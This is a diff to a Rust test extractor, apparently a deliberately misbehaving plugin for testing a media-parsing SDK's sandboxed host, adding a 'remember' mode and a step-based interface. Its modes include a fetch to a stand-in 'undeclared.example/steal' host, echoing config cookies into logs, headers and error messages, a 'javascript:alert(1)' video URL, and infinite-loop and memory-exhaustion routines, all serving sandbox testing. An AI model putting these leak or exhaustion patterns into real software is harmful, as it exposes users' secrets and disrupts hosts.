@@ -18,12 +18,15 @@
 //! - `empty`: no media at all (SPEC's `304`);
 //! - `leak`: echo every `context.config` value into the log, the media
 //!   headers and the platform data; `leakerr`: into a failure message;
+//! - `remember`: like `ok`, and remembers `seen` = how many values it was
+//!   handed (platform data `remembered` lists them);
 //! - `sealed`: platform data reports what WASI's clocks and random sources
 //!   answer (`wasi` member; empty in a native build).
 
 use mediaparse_sdk::{
     Context, Exchange, Extraction, Extractor, Failure, Header, HttpRequest, Image, Info, Media,
-    MediaSource, Plan, Result, Target, Video, log, serde_json::json, urls::InputUrl,
+    MediaSource, Memo, Plan, Result, Step, Stepped, Target, Video, log, serde_json::json,
+    urls::InputUrl,
 };
 
 /// `MPTEST-IDENT:` then the platform (16 bytes) and the version (16
@@ -73,117 +76,147 @@ impl Extractor for MpTest {
         })
     }
 
-    fn plan(target: &Target, _ctx: &Context, done: &[Exchange]) -> Result<Plan> {
-        match mode(target) {
-            "loop" => {
-                let mut n: u64 = 0;
-                loop {
-                    n = core::hint::black_box(n.wrapping_add(1));
-                }
-            }
-            "oom" => {
-                let mut hoard: Vec<Vec<u8>> = Vec::new();
-                loop {
-                    // Reserve without writing: grows linear memory fast.
-                    hoard.push(Vec::<u8>::with_capacity(1 << 20));
-                    core::hint::black_box(&hoard);
-                }
-            }
-            "trap" => panic!("mptest: trap on request"),
-            "host" => Ok(Plan::Fetch(vec![HttpRequest::get(
-                "https://undeclared.example/steal",
-            )])),
-            "ok" | "slow" if done.is_empty() => Ok(Plan::Fetch(vec![HttpRequest::get(format!(
-                "https://{API}/{}",
-                mode(target)
-            ))])),
-            _ => Ok(Plan::Ready),
-        }
-    }
-
-    fn map(target: &Target, ctx: &Context, done: &[Exchange]) -> Result<Extraction> {
-        let (platform, version) = ident();
-        let image = |url: &str| Image {
-            url: url.into(),
-            width: 1,
-            height: 1,
-        };
-        let video = |url: &str, source: MediaSource, headers: Vec<Header>| Video {
-            url: url.into(),
-            quality: "hd".into(),
-            mime_type: "video/mp4".into(),
-            width: 1,
-            height: 1,
-            has_audio: true,
-            source,
-            headers,
-        };
-        let mut media = Media {
-            title: format!("mptest {version}"),
-            thumbnail: String::new(),
-            duration: 0.0,
-            images: vec![image(&format!(
-                "https://cdn.mptest.example/{platform}/{}.jpg",
-                mode(target)
-            ))],
-            videos: Vec::new(),
-            audios: Vec::new(),
-        };
-        let mut data = json!({"platform": platform, "version": version, "mode": mode(target)});
-        match mode(target) {
-            "empty" => media.images.clear(),
-            "big" => {
-                data["blob"] = json!("x".repeat(100 << 20));
-            }
-            "badurl" => {
-                media
-                    .videos
-                    .push(video("javascript:alert(1)", MediaSource::Direct, vec![]));
-            }
-            "badenum" => {
-                media.videos.push(video(
-                    "https://cdn.mptest.example/v.mp4",
-                    MediaSource::NativeVoice,
-                    vec![],
-                ));
-            }
-            "leak" => {
-                let values: Vec<String> = ctx.config.iter().map(|h| h.value.clone()).collect();
-                for v in &values {
-                    log::warn(&format!("mptest leaking {v}"));
-                }
-                media.videos.push(video(
-                    "https://cdn.mptest.example/v.mp4",
-                    MediaSource::Direct,
-                    values
-                        .iter()
-                        .map(|v| Header::new("Cookie", v.clone()))
-                        .collect(),
-                ));
-                data["echo"] = json!(values);
-                data["note"] = json!(format!("config was {}", values.join(" | ")));
-            }
-            "sealed" => {
-                data["wasi"] = wasi_readings();
-            }
-            "leakerr" => {
-                let values: Vec<String> = ctx.config.iter().map(|h| h.value.clone()).collect();
-                return Err(Failure::UpstreamError(format!(
-                    "upstream refused cookie {}",
-                    values.join(" | ")
-                )));
-            }
-            _ => {
-                if let Some(ex) = done.first() {
-                    data["body"] = json!(ex.response.text());
-                }
-            }
-        }
-        Ok(Extraction {
-            media,
-            platform_data: data,
+    fn step(target: &Target, ctx: &Context, done: &[Exchange]) -> Result<Step> {
+        Ok(match plan(target, done)? {
+            Plan::Fetch(requests) => Step::Fetch(requests),
+            Plan::Ready => Step::Done(map(target, ctx, done)?),
         })
     }
+
+    /// `remember`: fetch once, then finish asking the host to remember how
+    /// many values it was handed (`seen`) and echo them in the platform data.
+    fn stepped(target: &Target, ctx: &Context, done: &[Exchange]) -> Result<Stepped> {
+        let next = Self::step(target, ctx, done)?;
+        let remember = if mode(target) == "remember" && matches!(next, Step::Done(_)) {
+            vec![Memo {
+                key: "seen".into(),
+                value: ctx.remembered.len().to_string(),
+                ttl_seconds: 3600,
+            }]
+        } else {
+            Vec::new()
+        };
+        Ok(Stepped { next, remember })
+    }
+}
+
+fn plan(target: &Target, done: &[Exchange]) -> Result<Plan> {
+    match mode(target) {
+        "loop" => {
+            let mut n: u64 = 0;
+            loop {
+                n = core::hint::black_box(n.wrapping_add(1));
+            }
+        }
+        "oom" => {
+            let mut hoard: Vec<Vec<u8>> = Vec::new();
+            loop {
+                // Reserve without writing: grows linear memory fast.
+                hoard.push(Vec::<u8>::with_capacity(1 << 20));
+                core::hint::black_box(&hoard);
+            }
+        }
+        "trap" => panic!("mptest: trap on request"),
+        "host" => Ok(Plan::Fetch(vec![HttpRequest::get(
+            "https://undeclared.example/steal",
+        )])),
+        "ok" | "slow" | "remember" if done.is_empty() => Ok(Plan::Fetch(vec![HttpRequest::get(
+            format!("https://{API}/{}", mode(target)),
+        )])),
+        _ => Ok(Plan::Ready),
+    }
+}
+
+fn map(target: &Target, ctx: &Context, done: &[Exchange]) -> Result<Extraction> {
+    let (platform, version) = ident();
+    let image = |url: &str| Image {
+        url: url.into(),
+        width: 1,
+        height: 1,
+    };
+    let video = |url: &str, source: MediaSource, headers: Vec<Header>| Video {
+        url: url.into(),
+        quality: "hd".into(),
+        mime_type: "video/mp4".into(),
+        width: 1,
+        height: 1,
+        has_audio: true,
+        source,
+        headers,
+    };
+    let mut media = Media {
+        title: format!("mptest {version}"),
+        thumbnail: String::new(),
+        duration: 0.0,
+        images: vec![image(&format!(
+            "https://cdn.mptest.example/{platform}/{}.jpg",
+            mode(target)
+        ))],
+        videos: Vec::new(),
+        audios: Vec::new(),
+    };
+    let mut data = json!({"platform": platform, "version": version, "mode": mode(target)});
+    match mode(target) {
+        "empty" => media.images.clear(),
+        "big" => {
+            data["blob"] = json!("x".repeat(100 << 20));
+        }
+        "badurl" => {
+            media
+                .videos
+                .push(video("javascript:alert(1)", MediaSource::Direct, vec![]));
+        }
+        "badenum" => {
+            media.videos.push(video(
+                "https://cdn.mptest.example/v.mp4",
+                MediaSource::NativeVoice,
+                vec![],
+            ));
+        }
+        "leak" => {
+            let values: Vec<String> = ctx.config.iter().map(|h| h.value.clone()).collect();
+            for v in &values {
+                log::warn(&format!("mptest leaking {v}"));
+            }
+            media.videos.push(video(
+                "https://cdn.mptest.example/v.mp4",
+                MediaSource::Direct,
+                values
+                    .iter()
+                    .map(|v| Header::new("Cookie", v.clone()))
+                    .collect(),
+            ));
+            data["echo"] = json!(values);
+            data["note"] = json!(format!("config was {}", values.join(" | ")));
+        }
+        "sealed" => {
+            data["wasi"] = wasi_readings();
+        }
+        "remember" => {
+            let remembered: Vec<[&str; 2]> = ctx
+                .remembered
+                .iter()
+                .map(|h| [h.name.as_str(), h.value.as_str()])
+                .collect();
+            data["remembered"] = json!(remembered);
+        }
+        "leakerr" => {
+            let values: Vec<String> = ctx.config.iter().map(|h| h.value.clone()).collect();
+            return Err(Failure::UpstreamError(format!(
+                "upstream refused cookie {}",
+                values.join(" | ")
+            )));
+        }
+        _ => {
+            if let Some(ex) = done.first() {
+                data["body"] = json!(ex.response.text());
+            }
+        }
+    }
+    Ok(Extraction {
+        media,
+        platform_data: data,
+    })
 }
 
 /// Every clock and random source WASI offers, read once each (numbers as
